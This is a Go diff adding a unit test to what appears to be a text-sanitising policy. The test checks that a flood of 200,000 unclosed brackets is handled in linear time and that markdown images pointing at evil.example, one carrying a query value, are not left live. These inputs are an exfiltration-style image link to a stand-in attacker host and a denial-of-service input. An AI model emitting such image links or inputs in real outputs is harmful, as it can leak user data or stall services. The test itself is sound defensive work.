@@ -243,3 +243,14 @@ func FuzzText(f *testing.F) {
 		}
 	})
 }
+
+// TestUnclosedBracketsStayLinear: text of unclosed brackets is bounded
+// work, and an image after them is still not left live.
+func TestUnclosedBracketsStayLinear(t *testing.T) {
+	p := policy(t)
+	in := strings.Repeat("[", 200_000) + "![x](https://evil.example/?d=zq9) ![y](//evil.example/z)"
+	out, flags := p.Text(in)
+	if strings.Contains(out, "https://evil") || strings.Contains(out, "(//evil") || !flags[FlagUnlistedLink] {
+		t.Fatalf("tail = %q, flags %v", out[len(out)-120:], flags.Names())
+	}
+}
